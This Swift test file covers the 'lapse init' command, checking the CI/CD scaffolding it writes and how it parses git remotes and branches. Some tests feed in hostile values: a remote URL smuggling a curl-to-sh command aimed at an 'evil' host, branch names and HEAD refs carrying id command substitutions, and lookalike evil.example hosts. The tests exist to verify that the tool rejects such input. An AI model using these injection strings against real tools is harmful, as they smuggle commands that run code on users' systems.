import Foundation
import LapseCommand
import Testing

extension CommandLineTests {
  /// `lapse init` writes the matching files and overwrites nothing.
  @Suite struct InitCommandTests {
    private let directory: Workspace

    init() throws {
      directory = try Workspace()
      try FileManager.default.createDirectory(
        atPath: directory.place("clone"), withIntermediateDirectories: true)
    }

    private func initialise(_ arguments: String...) throws -> Child {
      try Child(["init"] + arguments + ["--output", directory.place("clone")])
    }

    private func files() throws -> [String] {
      try (directory.contents(of: "clone") ?? [:]).keys.filter { !$0.hasPrefix(".git/") }.sorted()
    }

    @Test(arguments: [
      (
        "github",
        [
          ".github/actions/lapse/action.yml", ".github/actions/lapse/lapse-run.sh",
          ".github/workflows/lapse.yml", "lapse.yml", "owners.yml",
        ]
      ),
      ("azure-pipelines", ["lapse-pipeline.yml", "lapse-run.sh", "lapse.yml", "owners.yml"]),
      ("gitlab", ["lapse-run.sh", "lapse.yml", "owners.yml", "templates/lapse.yml"]),
      ("jenkins", ["Jenkinsfile", "lapse-run.sh", "lapse.yml", "owners.yml"]),
      ("systemd", ["lapse-run.sh", "lapse.service", "lapse.timer", "lapse.yml", "owners.yml"]),
      ("kubernetes", ["lapse-tenants.yml"]),
    ])
    func writesTheFilesOfASystem(system: String, expected: [String]) throws {
      let run = try initialise(system)
      #expect(run.status == 0)
      #expect(try files() == expected)
      for (name, data) in try directory.contents(of: "clone") ?? [:] {
        #expect(!data.isEmpty, "\(name)")
        #expect(
          FileManager.default.isExecutableFile(atPath: directory.place("clone/\(name)"))
            == name.hasSuffix(".sh"), "\(name)")
      }
      // The read-only permission, granted with each of three tools.
      #expect(run.output.contains("9a5d68dd-52b0-4cc2-bd40-abcf44ac3a30"))
      for tool in ["az rest", "New-MgServicePrincipalAppRoleAssignment", "azuread_app_role"] {
        #expect(run.output.contains(tool))
      }
      for placeholder in [
        "@SYSTEM@", "@ISSUER@", "@SUBJECT@", "@PRINCIPAL@", "@AUDIENCE@", "@REPOSITORY@",
        "@BRANCH@", "@OWNER@", "@NAME@",
      ] {
        #expect(!run.output.contains(placeholder))
      }
    }

    @Test func theDirectoryDeterminesSystemAndRepository() throws {
      try directory.write(
        "clone/.git/config", "[remote \"origin\"]\n\turl = git@github.com:contoso/identity.git\n")
      let run = try initialise()
      #expect(run.status == 0)
      #expect(run.output.contains("repo:contoso/identity:ref:refs/heads/main"))
      #expect(
        run.output.contains("repo:contoso@OWNER_ID/identity@REPOSITORY_ID:ref:refs/heads/main"))
      #expect(run.output.contains("gh api repos/contoso/identity "))
    }

    @Test func aHostileRemoteNeverReachesACommand() throws {
      try directory.write(
        "clone/.git/config",
        "[remote \"origin\"]\n\turl = https://github.com/a/b';curl${IFS}evil|sh;'\n")
      let run = try initialise()
      #expect(run.status == 0)
      #expect(!run.output.contains("evil"))
      #expect(run.output.contains("gh api repos/OWNER/REPOSITORY "))
      #expect(run.output.contains("put your repository in place of OWNER/REPOSITORY"))
    }

    @Test(arguments: [
      ("https://github.com.evil.example/contoso/identity", "github"),
      ("https://evil.example/github.com/contoso", "github"),
      ("git@gitlab.com:contoso/identity.git", "github"),
      ("https://code.contoso.example/contoso/identity.git", "gitlab"),
    ])
    func aRepositoryOnAnotherServerIsNotTrusted(remote: String, system: String) throws {
      try directory.write("clone/.git/config", "[remote \"origin\"]\n\turl = \(remote)\n")
      let run = try initialise(system)
      #expect(run.status == 0)
      #expect(!run.output.contains("contoso/identity"))
      #expect(!run.output.contains("token.actions.githubusercontent.com"))
      #expect(!run.output.contains("https://gitlab.com"))
    }

    @Test func gitLabGroupsAndServersAreNamedInFull() throws {
      try directory.write(
        "clone/.git/config",
        "[remote \"origin\"]\n\turl = https://gitlab.contoso.example/group/sub/project.git\n")
      try directory.write(
        "clone/.git/refs/remotes/origin/HEAD", "ref: refs/remotes/origin/trunk\n")
      let run = try initialise()
      #expect(run.output.contains("project_path:group/sub/project:ref_type:branch:ref:trunk"))
      #expect(run.output.contains("https://gitlab.contoso.example"))
    }

    @Test func theBranchIsTheDefaultThenTheCheckedOutOneThenMain() throws {
      #expect(try initialise("gitlab").output.contains("ref_type:branch:ref:main"))
      try directory.write("clone/.git/HEAD", "ref: refs/heads/trunk\n")
      #expect(try initialise("gitlab", "--force").output.contains("ref_type:branch:ref:trunk"))
      try directory.write("clone/.git/refs/remotes/origin/HEAD", "ref: refs/remotes/origin/live\n")
      #expect(try initialise("gitlab", "--force").output.contains("ref_type:branch:ref:live"))
      let named = try initialise("gitlab", "--force", "--branch", "release/1.0")
      #expect(named.output.contains("ref_type:branch:ref:release/1.0"))
      let hostile = try initialise("gitlab", "--force", "--branch", "x';id;'")
      #expect(hostile.status == 2)
      try directory.write("clone/.git/refs/remotes/origin/HEAD", "ref: refs/remotes/origin/$(id)\n")
      try directory.write("clone/.git/HEAD", "ref: refs/heads/$(id)\n")
      #expect(try initialise("gitlab", "--force").output.contains("ref_type:branch:ref:main"))
    }

    @Test func theFilesHaveWhatTheSystemNeeds() throws {
      try directory.write("clone/.git/HEAD", "ref: refs/heads/trunk\n")
      func text(_ name: String) throws -> String {
        try String(contentsOfFile: directory.place("clone/\(name)"), encoding: .utf8)
      }
      #expect(try initialise("azure-pipelines").status == 0)
      #expect(try text("lapse-pipeline.yml").contains("include: ['trunk']"))
      #expect(try text("lapse.yml").contains("\n# html: {assets: external}"))
      try FileManager.default.removeItem(atPath: directory.place("clone/lapse.yml"))
      #expect(try initialise("jenkins", "--force").status == 0)
      #expect(try text("lapse.yml").contains("\nhtml: {assets: external}"))
    }

    @Test func tenantsShareOneApplicationThatEachConsentsTo() throws {
      for arguments in [["kubernetes"], ["github", "--tenants"]] {
        let run = try Child(
          ["init"] + arguments + ["--force", "--output", directory.place("clone")])
        #expect(run.status == 0)
        #expect(!run.output.contains("AzureADMyOrg"))
        #expect(run.output.contains("--sign-in-audience AzureADMultipleOrgs"))
        #expect(run.output.contains("once in each tenant"))
      }
      #expect(try !initialise("github", "--force").output.contains("AzureADMultipleOrgs"))
    }

    @Test func nothingIsWrittenThroughALink() throws {
      try FileManager.default.createDirectory(
        atPath: directory.place("elsewhere"), withIntermediateDirectories: true)
      try FileManager.default.createSymbolicLink(
        atPath: directory.place("clone/templates"),
        withDestinationPath: directory.place("elsewhere"))
      #expect(try initialise("gitlab", "--force").status == 2)
      #expect(try files().filter { $0 != "templates" } == [])
    }

    @Test func forceKeepsFilesThatUsersEdit() throws {
      try directory.write("clone/owners.yml", "teams: [{name: Payroll}]")
      #expect(try initialise("github", "--force").status == 0)
      let kept = try String(contentsOfFile: directory.place("clone/owners.yml"), encoding: .utf8)
      #expect(kept == "teams: [{name: Payroll}]")
    }

    @Test func asksNothingIfInputIsAPipe() throws {
      let run = try initialise()
      #expect(run.status == 2)
      #expect(run.errors.contains("lapse init github|azure-pipelines"))
      #expect(try files() == [])
    }

    @Test func severalDetectedSystemsAreWrongUsage() throws {
      try directory.write("clone/Jenkinsfile", "")
      try directory.write("clone/.gitlab-ci.yml", "")
      #expect(try initialise().status == 2)
    }

    @Test func overwritesNothingWithoutForce() throws {
      try directory.write("clone/Jenkinsfile", "mine")
      try directory.write("clone/lapse.yml", "horizonDays: 45")
      let refused = try initialise("jenkins")
      #expect(refused.status == 2)
      #expect(refused.errors.contains("Jenkinsfile: already exists"))
      #expect(try files() == ["Jenkinsfile", "lapse.yml"])
      // A file that the user has edited is kept, and the pipeline is added.
      let systemd = try initialise("systemd")
      #expect(systemd.status == 0)
      #expect(systemd.output.contains("kept"))
      let kept = try String(contentsOfFile: directory.place("clone/lapse.yml"), encoding: .utf8)
      #expect(kept == "horizonDays: 45")
      #expect(try initialise("jenkins", "--force").status == 0)
      let forced = try String(contentsOfFile: directory.place("clone/Jenkinsfile"), encoding: .utf8)
      #expect(forced.hasPrefix("// Every day"))
    }

    @Test func tenantsAddTheMatrix() throws {
      #expect(try initialise("--tenants").status == 0)
      #expect(try files().contains(".github/workflows/lapse-tenants.yml"))
      #expect(try files().contains("tenants.yml"))
      #expect(try initialise("gitlab", "--tenants").status == 2)
    }
  }
}
